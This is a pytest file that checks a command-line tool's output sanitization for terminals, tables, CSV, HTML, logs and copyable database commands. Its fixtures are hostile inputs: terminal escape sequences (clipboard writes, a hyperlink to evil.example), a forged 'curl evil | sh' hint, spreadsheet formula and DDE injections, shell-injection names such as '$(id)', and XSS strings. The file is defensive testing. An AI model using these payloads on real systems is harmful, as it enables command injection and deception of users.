"""What others wrote is shown, not sent: one line stays one line, and no escape reaches a terminal."""

from __future__ import annotations

import csv
import io
import json
import logging
import shlex
import sys
import unicodedata
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from rich.console import Console

from eicctl import cli
from eicctl.audit.correlation import Row
from eicctl.audit.records import event_of
from eicctl.core import sanitize
from eicctl.core.errors import EicctlError
from eicctl.named_tunnels.status import Status
from eicctl.support.html import element
from eicctl.support.logging_setup import Lines
from eicctl.view import audit, messages, render
from eicctl.view.database import LocalDatabase
from eicctl.view.named_tunnels import live_table
from eicctl.view.progress import Waiting

HOSTILE = {
    "colour": "a\x1b[31mred",
    "title": "a\x1b]0;owned\x07",
    "clipboard": "a\x1b]52;c;ZXZpbA==\x1b\\",
    "link": "a\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1": "a\x9b31m\x9d52;c;eA==\x9c\x85b",
    "bidi": "a\u202egpj.exe\u2066\u200f",
    "return": "a\rhint: run this",
    "newline": "a\nerror: forged\nhint: curl evil | sh",
    "separators": "a\u2028hint: x\u2029y",
    "NUL": "a\x00b\x7f",
    "surrogate": "a\udc80\ud800b",
    "markup": "[bold red]a[/] :boom:",
    "tab": "a\tb",
}
cases = pytest.mark.parametrize("text", HOSTILE.values(), ids=HOSTILE)


def harmless(text: str, *, layout: str = "\n") -> bool:
    """Whether nothing in a text does anything on a terminal, but for `layout`."""
    text.encode()
    return all(char in layout or unicodedata.category(char) not in ("Cc", "Cf", "Cs", "Zl", "Zp") for char in text)


@cases
def test_an_error_and_its_hint(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    messages.failure(EicctlError(f"it said: {text}", hint=f"see {text}", request_id=text))
    err = capsys.readouterr().err
    assert harmless(err, layout="\n\t")
    begins = [line.split(":")[0] for line in err.splitlines() if not line.startswith("  ")]
    assert begins == ["error", "request ID", "hint"]


@cases
def test_tables_text_and_json(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    rows: list[dict[str, Any]] = [{"Name": text, "Tags": [{"Key": text, "Value": text}]}, {"Name": "plain", "Tags": []}]
    for output, lines, layout in (("table", 3, "\n"), ("text", 2, "\n\t")):
        render.show(rows, output=output, columns={"Name": "Name", "Tags": "Tags"})
        out = capsys.readouterr().out
        assert harmless(out, layout=layout)
        assert len(out.splitlines()) == lines
    render.show(rows[0], output="table")
    assert len(capsys.readouterr().out.splitlines()) == 2
    render.show(rows, output="json")
    out = capsys.readouterr().out
    assert harmless(out)
    assert json.loads(out) == rows


@cases
def test_a_key_of_a_query_is_a_heading(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    render.show([{text: 1}], output="table")
    out = capsys.readouterr().out
    assert harmless(out)
    assert len(out.splitlines()) == 2


@cases
def test_an_audit_row(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    event = event_of(
        {
            "eventName": "OpenTunnel",
            "eventTime": "2026-01-01T00:00:00Z",
            "eventID": text,
            "userAgent": text,
            "sourceIPAddress": text,
            "errorCode": text,
            "errorMessage": text,
            "userIdentity": {"userName": text, "arn": text},
        }
    )
    assert event
    row = Row(event, instance_name=text)
    for output in ("table", "text", "json", "csv"):
        audit.show_rows(iter([row]), output=output, query=None)
        out = capsys.readouterr().out
        assert harmless(out, layout="\n" if output in ("table", "json") else "\n\t")
        if output != "json":
            found = list(csv.reader(io.StringIO(out))) if output == "csv" else out.splitlines()
            assert len(found) == (1 if output == "text" else 2)
    audit.printer("table")(row)
    assert len(capsys.readouterr().out.splitlines()) == 1


FORMULAS = ["=1+1", "+1", "-1", "@SUM(A1)", "\uff1d1+1", "\ufe66 1", '=HYPERLINK("x","y")', "=cmd|' /C calc'!A0"]
SEPARATORS = [
    "",
    ",",
    ";",
    "\t",
    "|",
    " ",
    "\n",
    "\r",
    "\r\n",
    "\v",
    "\x85",
    "\u2028",
    '"',
    ';"',
    ";;",
    "a;",
    "a\n;",
    "\u200b",
]


@pytest.mark.parametrize("separator", SEPARATORS)
@pytest.mark.parametrize("formula", FORMULAS)
def test_no_cell_is_a_formula(formula: str, separator: str, capsys: pytest.CaptureFixture[str]) -> None:
    """Whatever a spreadsheet takes for the list separator."""
    cell = f"{separator}{formula}"
    event = event_of({"eventName": "OpenTunnel", "eventTime": "2026-01-01T00:00:00Z", "userAgent": cell})
    assert event
    audit.show_rows(iter([Row(event)]), output="csv", query=None)
    out = capsys.readouterr().out
    assert out.count("\n") == 2
    heading, values = csv.reader(io.StringIO(out))
    sanitize = dict(zip(heading, values, strict=True))["UserAgent"]
    assert "\n" not in sanitize
    for delimiter in ",;\t| ":
        for row in csv.reader(io.StringIO(out), delimiter=delimiter):
            assert not any(part.strip().strip('"').startswith(tuple("=+-@\uff1d\ufe66")) for part in row)


def test_other_cells_stay_as_they_are(capsys: pytest.CaptureFixture[str]) -> None:
    agent = "aws-cli/2.36.7 md/awscrt#0.36.0 cfg/retry-mode#standard a=1 x-y 10.0.1.10"
    event = event_of({"eventName": "OpenTunnel", "eventTime": "2026-01-01T00:00:00Z", "userAgent": agent})
    assert event
    audit.show_rows(iter([Row(event)]), output="csv", query=None)
    assert agent in capsys.readouterr().out


@cases
def test_the_live_table(text: str) -> None:
    status = Status("db", "direct", text, "failing", via=text, error=text, hint=text)
    file = io.StringIO()
    Console(file=file, width=300, force_terminal=False).print(live_table([status], "end", 300))
    assert harmless(file.getvalue())
    assert len(file.getvalue().splitlines()) == 5


@cases
def test_progress_html_and_help(text: str, capsys: pytest.CaptureFixture[str]) -> None:
    with Waiting(f"Waiting for {text}") as waiting:
        waiting.show(text)
    assert harmless(capsys.readouterr().err, layout="\n\t")
    page = element("td", text, title=text)
    assert harmless(page)
    assert "<" not in page.removeprefix("<td").removesuffix("</td>")
    assert cli.main([text.encode("utf-8", "replace").decode()]) == 2
    assert harmless(capsys.readouterr().err, layout="\n\t")


def test_html_is_escaped() -> None:
    page = element("td", "<script>alert(1)</script>", title="\"'><img src=x onerror=alert(1)>")
    assert "<script" not in page
    assert "<img" not in page
    assert "\"'" not in page


@cases
def test_log_records_and_tracebacks(text: str) -> None:
    try:
        raise EicctlError(text)
    except EicctlError:
        record = logging.LogRecord("eicctl.x", logging.INFO, "", 0, "said %s", (text,), sys.exc_info())
    assert harmless(Lines().format(record), layout="\n\t")


def test_a_megabyte_is_cut_and_says_so(capsys: pytest.CaptureFixture[str]) -> None:
    messages.failure(EicctlError("x" * 2**20, hint="do this"))
    err = capsys.readouterr().err
    assert len(err) < 2 * sanitize.LONGEST
    assert "more characters" in err
    assert err.endswith("hint: do this\n")


@pytest.mark.parametrize("engine", ["postgres", "mysql", "sqlserver-se", "docdb", "redis"])
@pytest.mark.parametrize("text", ["--execute=\\! id", "$(id)", "a;id", "a' host=evil '", "`id`\nid"])
def test_lines_to_copy_hold_names_as_single_words(engine: str, text: str) -> None:
    local = LocalDatabase(engine, "db.example.com", 5432, "127.0.0.1", 6000, user=text, name=text)
    plain = LocalDatabase(engine, "db.example.com", 5432, "127.0.0.1", 6000, user="u", name="n")
    words = shlex.split(local.command)
    assert len(words) == len(shlex.split(plain.command))
    assert "--execute=\\! id" not in words or words[words.index("--execute=\\! id") - 1] == "-U"
    assert len(local.url.splitlines()) == 1


def test_layout_of_our_own_stays() -> None:
    assert sanitize.message("\nmade; again:\n") == "\nmade; again:\n"
    assert sanitize.message("several:\n  i-1\n  i-2") == "several:\n  i-1\n  i-2"


@given(st.text(st.characters(exclude_categories=())))
def test_whatever_the_text(text: str) -> None:
    assert harmless(sanitize.printable(text), layout="\n\t")
    assert harmless(sanitize.line(text), layout="")
    assert harmless(sanitize.json_text([text], indent=1))
    assert not any(line and not line.startswith(" ") for line in sanitize.message(f"x{text}y").splitlines()[1:])


@given(
    st.recursive(st.none() | st.booleans() | st.integers() | st.text(st.characters(exclude_categories=())), st.lists)
)
def test_json_is_exact(value: object) -> None:
    assert json.loads(sanitize.json_text(value)) == json.loads(json.dumps(value))
